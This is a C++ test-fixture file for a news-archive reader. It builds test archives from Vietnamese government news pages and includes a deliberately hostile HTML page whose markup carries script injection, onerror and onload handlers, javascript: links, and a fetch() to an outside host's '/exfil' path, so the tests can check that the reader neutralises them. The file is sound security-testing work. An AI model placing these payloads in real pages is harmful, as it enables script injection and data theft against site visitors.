#include "tests/support/reader_archive.h"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <fstream>
#include <stdexcept>

#include "archive/archive.h"
#include "cli/ingest.h"
#include "config/config.h"
#include "tests/support/fixture_sites.h"
#include "tests/support/paths.h"

namespace provarc::testing {
namespace {

const char kHostileUrl[] = "https://thu-nghiem.example.gov.vn/tin/bai-nguy-hiem.html";
const char kLinkedUrl[] = "https://thu-nghiem.example.gov.vn/tin/bai-lien-quan.html";
const char kImageUrl[] = "https://thu-nghiem.example.gov.vn/anh/bieu-do.png";

// A 1x1 PNG.
const unsigned char kPng[] = {
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44,
    0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f,
    0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8,
    0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05, 0x00, 0x01, 0xff, 0x89, 0x99, 0x3d, 0x1d, 0x00, 0x00,
    0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82};

// A page whose article (read by the generic platform) is titled kHostileTitle and quotes a
// script as text, and whose markup tries everything an archived page must not do in the reader.
std::string hostile_page() {
  const std::string outside = std::string("http://") + kOutsideHost;
  return "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Bài thử</title>"
         "<script>document.documentElement.setAttribute('data-pwned', 'script');"
         "alert('archived script'); fetch('" + outside + "/exfil');</script>"
         "<link rel=\"stylesheet\" href=\"" + outside + "/style.css\">"
         "<link rel=\"dns-prefetch\" href=\"//" + kOutsideHost + "\">"
         "<meta http-equiv=\"refresh\" content=\"3;url=" + outside + "/refresh\">"
         "</head><body onload=\"document.documentElement.setAttribute('data-pwned', 'onload')\">"
         "<article><h1>&lt;img src=x onerror=alert(1)&gt;</h1>"
         "<p class=\"ngay-dang\">Ngày đăng: 12/04/2023</p>"
         "<p>Đoạn này chép nguyên văn một đoạn mã: &lt;script&gt;alert(\"thân bài\")&lt;/script&gt;"
         " và nó phải hiện ra như chữ, không bao giờ chạy trong trình đọc của kho lưu trữ.</p>"
         "<p>Bài viết thử nghiệm này có đủ chữ để bộ đọc chung nhận ra thân bài: Sở Thông tin và "
         "Truyền thông tổ chức hội nghị triển khai nhiệm vụ chuyển đổi số năm 2023 với sự tham dự "
         "của lãnh đạo các phòng, đơn vị trực thuộc.</p>"
         "<p><img src=\"/anh/bieu-do.png\" alt=\"Biểu đồ\"></p>"
         "<p><img src=\"" + outside + "/track.gif\" alt=\"\"></p>"
         "<p><img src=x onerror=\"document.documentElement.setAttribute('data-pwned', 'onerror')\">"
         "</p>"
         "<p>Xem thêm: <a href=\"/tin/bai-lien-quan.html\">bài liên quan</a>, "
         "<a href=\"" + outside + "/ngoai\">trang ngoài</a>, "
         "<a href=\"javascript:alert(5)\">liên kết mã</a>.</p>"
         "<iframe src=\"" + outside + "/frame\"></iframe>"
         "<object data=\"" + outside + "/plugin.swf\"></object>"
         "<svg><script>alert('svg')</script><image href=\"" + outside + "/svg.png\"/></svg>"
         "<div style=\"background:url(" + outside + "/bg.png)\">nền</div>"
         "<video poster=\"" + outside + "/poster.jpg\" src=\"" + outside + "/video.mp4\"></video>"
         "<form action=\"" + outside + "/gui\"><input name=\"q\"><button>Gửi</button></form>"
         "</article></body></html>";
}

std::string linked_page() {
  return "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Bài liên quan</title></head>"
         "<body><article><h1>Bài liên quan</h1><p>Một trang khác của cùng trang web, đã được lưu "
         "trong kho, để các liên kết của trang kia dẫn tới.</p></article></body></html>";
}

Capture page_capture(const std::string& site, const std::string& url, const std::string& body,
                     const std::string& at, const std::string& content_type) {
  Capture c;
  c.url = url;
  c.site = site;
  c.fetched_at = at;
  c.status = 200;
  c.http_version = "HTTP/1.1";
  c.response_headers = {{"Content-Type", content_type}};
  c.body = body;
  return c;
}

SiteConfig load(const std::string& file) {
  Result<SiteConfig> site = load_site(file, source_dir() + "/config/platforms");
  if (!site.ok()) throw std::runtime_error(site.error());
  return *site;
}

int64_t ingest(Archive& archive, const SiteConfig& site, const Capture& capture, int64_t run) {
  Result<IngestOutcome> outcome = ingest_capture(archive, capture, site, run, true);
  if (!outcome.ok()) throw std::runtime_error(outcome.error());
  if (!wrote_version(outcome->change)) {
    throw std::runtime_error(capture.url + " gave no new version: " + outcome->error);
  }
  return outcome->article_id;
}

void record_crawl(Archive& archive, const std::vector<RunSiteCounts>& sites) {
  std::vector<std::string> ids;
  for (const RunSiteCounts& s : sites) ids.push_back(s.site);
  Result<int64_t> run = archive.begin_run("crawl", ids);
  if (!run.ok()) throw std::runtime_error(run.error());
  for (const RunSiteCounts& s : sites) {
    Status recorded = archive.record_run_site(*run, s);
    if (!recorded.ok()) throw std::runtime_error(recorded.error());
  }
  if (Status st = archive.end_run(*run, "{}"); !st.ok()) throw std::runtime_error(st.error());
}

ReaderArchive build(const std::string& dir) {
  ReaderArchive out;
  out.db_path = dir + "/reader.sqlite";
  Result<std::unique_ptr<Archive>> opened = Archive::open(out.db_path);
  if (!opened.ok()) throw std::runtime_error(opened.error());
  Archive& archive = **opened;

  const SiteConfig dong_thap = load(source_dir() + "/config/sites/dong-thap.toml");
  Result<std::vector<MirroredPage>> pages = read_fixture_manifest(fixture_path("dong-thap"));
  if (!pages.ok()) throw std::runtime_error(pages.error());
  for (const MirroredPage& page : *pages) {
    const std::string html = read_file(fixture_path("dong-thap/" + page.file));
    int64_t id = ingest(archive, dong_thap,
                        page_capture("dong-thap", page.url, html, "2026-01-10T02:00:00.000Z",
                                     page.content_type),
                        0);
    if (page.file.find("dien-tap") != std::string::npos) out.dong_thap_article = id;
    if (page.file.find("trien-khai") != std::string::npos) {
      out.edited_article = id;
      // The department edits the article a month later: a sentence added to its first paragraph.
      std::string edited = html;
      const std::string anchor = "chủ trì Hội nghị.";
      size_t at = edited.find(anchor);
      if (at == std::string::npos) throw std::runtime_error("the edited fixture changed");
      edited.insert(at + anchor.size(), std::string(" ") + kAddedSentence);
      ingest(archive, dong_thap,
             page_capture("dong-thap", page.url, edited, "2026-02-10T02:00:00.000Z",
                          page.content_type),
             0);
    }
  }

  const std::string site_file = dir + "/thu-nghiem.toml";
  std::ofstream(site_file) << "id = \"thu-nghiem\"\nname = \"Trang thử nghiệm\"\n"
                              "province = \"Thử Nghiệm\"\nplatform = \"generic\"\n"
                              "hosts = [\"thu-nghiem.example.gov.vn\"]\n"
                              "start_urls = [\"https://thu-nghiem.example.gov.vn/\"]\n"
                              "contact_url = \"https://example.org/\"\n";
  const SiteConfig hostile = load(site_file);
  out.hostile_article = ingest(
      archive, hostile,
      page_capture("thu-nghiem", kHostileUrl, hostile_page(), "2026-01-11T03:00:00.000Z",
                   "text/html; charset=utf-8"),
      0);
  Result<std::optional<StoredCapture>> stored = archive.latest_capture(kHostileUrl, false);
  if (!stored.ok() || !*stored) throw std::runtime_error("the hostile capture is missing");
  out.hostile_capture = (*stored)->id;
  Result<int64_t> linked = archive.store_capture(
      page_capture("thu-nghiem", kLinkedUrl, linked_page(), "2026-01-11T03:00:01.000Z",
                   "text/html; charset=utf-8"),
      0);
  if (!linked.ok()) throw std::runtime_error(linked.error());
  out.linked_capture = *linked;
  Capture image = page_capture("thu-nghiem", kImageUrl,
                               std::string(reinterpret_cast<const char*>(kPng), sizeof kPng),
                               "2026-01-11T03:00:02.000Z", "image/png");
  image.kind = CaptureKind::kImage;
  image.parent_url = kHostileUrl;
  Result<int64_t> image_id = archive.store_capture(image, 0);
  if (!image_id.ok()) throw std::runtime_error(image_id.error());
  out.image_capture = *image_id;
  Capture robots = page_capture("thu-nghiem", "https://thu-nghiem.example.gov.vn/robots.txt",
                                "User-agent: *\nDisallow: /<script>alert(1)</script>\n",
                                "2026-01-11T02:59:59.000Z", "text/plain");
  robots.kind = CaptureKind::kRobots;
  Result<int64_t> robots_id = archive.store_capture(robots, 0);
  if (!robots_id.ok()) throw std::runtime_error(robots_id.error());
  out.robots_capture = *robots_id;

  RunSiteCounts dong_thap_counts;
  dong_thap_counts.site = "dong-thap";
  dong_thap_counts.fetched = 6;
  dong_thap_counts.pages = 5;
  dong_thap_counts.new_articles = 4;
  dong_thap_counts.parsed = 4;
  dong_thap_counts.finished = true;
  record_crawl(archive, {dong_thap_counts});
  RunSiteCounts alarm;
  alarm.site = "thu-nghiem";
  alarm.fetched = 3;
  alarm.pages = 2;
  alarm.new_articles = 1;
  alarm.parsed = 4;
  alarm.body_missed = 4;
  alarm.suspect = 4;
  alarm.template_changed = true;
  alarm.examples = {kHostileUrl};
  record_crawl(archive, {alarm});
  return out;
}

std::string bulletin_page(int i, const std::string& date) {
  return "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Bản tin số " +
         std::to_string(i) + "</title></head><body><article><h1>Bản tin số " + std::to_string(i) +
         "</h1><p class=\"ngay-dang\">Ngày đăng: " + date.substr(8, 2) + "/" + date.substr(5, 2) +
         "/" + date.substr(0, 4) + "</p><p>Đây là bản tin thứ " + std::to_string(i) +
         " của Sở Thông tin và Truyền thông, có đủ chữ để bộ đọc chung nhận ra thân bài: tình "
         "hình triển khai chuyển đổi số, hạ tầng viễn thông và dịch vụ công trực tuyến trong "
         "tuần qua.</p></article></body></html>";
}

std::string build_bulletins(const std::string& dir, int count) {
  const std::string db_path = dir + "/bulletins.sqlite";
  Result<std::unique_ptr<Archive>> opened = Archive::open(db_path);
  if (!opened.ok()) throw std::runtime_error(opened.error());
  const std::string site_file = dir + "/ban-tin.toml";
  std::ofstream(site_file) << "id = \"ban-tin\"\nname = \"Bản tin\"\nprovince = \"Thử Nghiệm\"\n"
                              "platform = \"generic\"\nhosts = [\"ban-tin.example.gov.vn\"]\n"
                              "start_urls = [\"https://ban-tin.example.gov.vn/\"]\n"
                              "contact_url = \"https://example.org/\"\n";
  const SiteConfig site = load(site_file);
  using std::chrono::days;
  const std::chrono::sys_days first = std::chrono::year{2024} / 1 / 1;
  for (int i = 0; i < count; ++i) {
    const std::chrono::year_month_day day{first + days{i}};
    char date[16];
    std::snprintf(date, sizeof date, "%04d-%02u-%02u", static_cast<int>(day.year()),
                  static_cast<unsigned>(day.month()), static_cast<unsigned>(day.day()));
    ingest(**opened, site,
           page_capture("ban-tin", "https://ban-tin.example.gov.vn/tin/" + std::to_string(i),
                        bulletin_page(i, date), "2026-01-12T03:00:00.000Z",
                        "text/html; charset=utf-8"),
           0);
  }
  return db_path;
}

}  // namespace

std::string build_bulletin_archive(const std::string& dir, int count) {
  try {
    return build_bulletins(dir, count);
  } catch (const std::exception& e) {
    ADD_FAILURE() << "building the bulletins' archive: " << e.what();
    throw;
  }
}

ReaderArchive build_reader_archive(const std::string& dir) {
  try {
    return build(dir);
  } catch (const std::exception& e) {
    ADD_FAILURE() << "building the reader's test archive: " << e.what();
    throw;
  }
}

}  // namespace provarc::testing
